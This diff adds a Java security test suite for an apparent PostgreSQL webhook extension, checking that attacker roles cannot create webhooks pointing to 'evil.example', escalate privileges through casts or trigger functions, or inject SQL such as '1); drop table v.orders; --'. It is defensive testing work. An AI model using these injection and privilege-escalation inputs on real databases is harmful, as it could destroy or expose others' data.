@@ -1,0 +1,153 @@
+package io.pgnetty.attack;
+
+import static io.pgnetty.attack.Attackers.ATTACKER;
+import static io.pgnetty.attack.Attackers.STRANGER;
+import static io.pgnetty.attack.Attackers.VICTIM;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import io.pgnetty.testing.TestDatabase;
+import java.util.List;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+
+/** What webhooks would do for those who may not. */
+class AttackWebhooksTest {
+
+    private final TestDatabase database = Attackers.database();
+    private final TestDatabase attacker = database.as(ATTACKER);
+
+    @BeforeEach
+    void tables() {
+        database.run("create schema v authorization " + VICTIM + "; create schema e authorization " + ATTACKER);
+        database.as(VICTIM)
+                .run("create table v.orders (id int, note text); grant usage on schema v to " + ATTACKER + ", "
+                        + STRANGER + "; grant all on v.orders to " + ATTACKER + ", " + STRANGER);
+    }
+
+    @Test
+    void nobodyMakesOneOnAStrangersTable() {
+        assertThatThrownBy(() ->
+                        attacker.run("select net.create_webhook('x', 'v.orders', '{insert}', 'https://evil.example/')"))
+                .isInstanceOfSatisfying(
+                        TestDatabase.Failed.class,
+                        failed -> assertThat(failed.state()).isEqualTo("42501"))
+                .hasMessageContaining("must be owner of table v.orders");
+        assertThatThrownBy(() -> database.as(STRANGER)
+                        .run("create table public.s (id int);"
+                                + "select net.create_webhook('x', 'public.s', '{insert}', 'https://evil.example/')"))
+                .hasMessageContaining("permission denied");
+    }
+
+    /** Who writes to the table needs no right of pgnetty's, and gets none: what it sends is its owner's. */
+    @Test
+    void itRunsAsTheTablesOwnerWhoeverWrites() {
+        database.as(VICTIM).run("select net.create_webhook('own', 'v.orders', '{insert}', 'https://hooks.example/')");
+        database.as(STRANGER).run("insert into v.orders values (1)");
+        database.run("insert into v.orders values (2)");
+        assertThat(database.rows("select queued_by from net.http_request_queue"))
+                .hasSize(2)
+                .containsOnly(List.of(VICTIM));
+        assertThat(attacker.rows("select * from net.my_requests")).isEmpty();
+        assertThat(attacker.rows("select * from net.webhooks")).isEmpty();
+    }
+
+    /** On a table of one's own it would send what one likes in its owner's name. */
+    @Test
+    void nobodyElseUsesItsFunction() {
+        database.as(VICTIM)
+                .run(
+                        "alter default privileges for role " + VICTIM + " grant execute on functions to " + ATTACKER
+                                + ", public; select net.create_webhook('own', 'v.orders', '{insert}', 'https://hooks.example/')");
+        assertThat(database.rows("select a.grantee::regrole from pg_proc p, aclexplode(p.proacl) a"
+                        + " where p.proname = 'pgnetty_own'"))
+                .containsOnly(List.of(VICTIM));
+        attacker.run("create table e.mine (id int, note text)");
+        assertThatThrownBy(() -> attacker.run(
+                        "create trigger t after insert on e.mine for each row execute function v.pgnetty_own()"))
+                .hasMessageContaining("permission denied for function");
+        for (String call : List.of("drop_webhook", "disable_webhook", "enable_webhook")) {
+            assertThatThrownBy(() -> attacker.run("select net." + call + "('own', 'v.orders')"))
+                    .hasMessageContaining("there is no webhook \"own\"");
+        }
+    }
+
+    /** A superuser who helps out with the attacker's table does not run the attacker's casts, expressions and functions. */
+    @Test
+    void nothingOfTheTablesOwnerRunsAsASuperuser() {
+        attacker.run("create table e.log (who text);"
+                + "create function e.note(text) returns text language plpgsql as"
+                + " $$ begin insert into e.log values ($1 || ' ' || current_user); return 'https://hooks.example/'; end $$;"
+                + "create type e.odd as enum ('a');"
+                + "create function e.to_json(e.odd) returns json language plpgsql as"
+                + " $$ begin perform e.note('cast'); return '1'; end $$;"
+                + "create cast (e.odd as json) with function e.to_json(e.odd);"
+                + "create function e.payload(jsonb) returns jsonb language plpgsql as"
+                + " $$ begin perform e.note('payload'); return $1; end $$;"
+                + "create table e.trap (id int, o e.odd)");
+        database.run(
+                "select net.create_webhook('trap', 'e.trap', '{insert}', $$e.note('url')$$, payload := 'e.payload(jsonb)');"
+                        + "insert into e.trap values (1, 'a')");
+        assertThat(attacker.rows("select distinct who from e.log order by 1"))
+                .containsExactly(
+                        List.of("cast " + ATTACKER), List.of("payload " + ATTACKER), List.of("url " + ATTACKER));
+        assertThat(database.one("select queued_by from net.http_request_queue")).isEqualTo(ATTACKER);
+        assertThat(database.one("select runs_as from net.webhooks")).isEqualTo(ATTACKER);
+    }
+
+    @Test
+    void aPayloadFunctionThatTheCallerMayNotExecuteIsRefused() {
+        database.as(VICTIM)
+                .run("create function v.secret(jsonb) returns jsonb language sql security definer as"
+                        + " $$ select $1 $$; revoke all on function v.secret(jsonb) from public");
+        attacker.run("create table e.mine (id int)");
+        assertThatThrownBy(
+                        () -> attacker.run("select net.create_webhook('x', 'e.mine', '{insert}', 'https://a.example/',"
+                                + " payload := 'v.secret(jsonb)')"))
+                .hasMessageContaining("permission denied for function v.secret");
+    }
+
+    /** Each argument is a value, whatever quotes it has; what is SQL is one expression. */
+    @Test
+    void quotesStayInTheirArguments() {
+        String nasty = "a''b\\\"$$ $body$ %L %s {{x}} \\\\";
+        database.as(VICTIM)
+                .run("create table v.\"odd \"\"'$ table\" (id int, \"odd \"\"' column\" text);"
+                        + "select net.create_webhook('q', 'v.\"odd \"\"''$ table\"', '{insert,update}', 'https://hooks.example/?a=''b',"
+                        + " headers := jsonb_build_object('X-Odd', '" + nasty
+                        + "'), exclude_columns := array['odd \"'' column'],"
+                        + " columns := array['odd \"'' column'], condition := $c$new.id <> 5 -- $c$);"
+                        + "insert into v.\"odd \"\"'$ table\" values (1, 'x')");
+        assertThat(database.rows("select url, headers ->> 'X-Odd', convert_from(body, 'UTF8')::jsonb ->> 'table'"
+                        + " from net.http_request_queue"))
+                .containsExactly(List.of("https://hooks.example/?a='b", nasty.replace("''", "'"), "odd \"'$ table"));
+        for (String expression : List.of(
+                "1); drop table v.orders; --",
+                "1; select 2",
+                "1)::text from v.orders; select (1",
+                "new.id) union select (1")) {
+            assertThatThrownBy(() -> database.as(VICTIM)
+                            .run("select net.create_webhook('x', 'v.orders', '{insert}', $x$" + expression + "$x$)"))
+                    .as(expression)
+                    .isInstanceOf(TestDatabase.Failed.class);
+        }
+        assertThat(database.one("select to_regclass('v.orders') is not null")).isEqualTo("t");
+    }
+
+    @Test
+    void credentialsThatAllWouldReadAreWarnedOf() throws Exception {
+        try (var session = database.as(VICTIM).connect();
+                var statement = session.createStatement()) {
+            statement.execute("select net.create_webhook('x', 'v.orders', '{insert}', 'https://hooks.example/',"
+                    + " headers := '{\"Authorization\": \"Bearer {{secret:hook}}\"}')");
+            assertThat((Object) statement.getWarnings()).isNull();
+            statement.execute("select net.create_webhook('y', 'v.orders', '{insert}', 'https://hooks.example/',"
+                    + " headers := '{\"Authorization\": \"Bearer abc\"}')");
+            assertThat(statement.getWarnings().getMessage()).contains("can read the credentials of webhook \"y\"");
+        }
+        assertThat(database.as(VICTIM)
+                        .rows("select headers::text from net.webhooks where name = 'y'")
+                        .toString())
+                .doesNotContain("abc");
+    }
+}
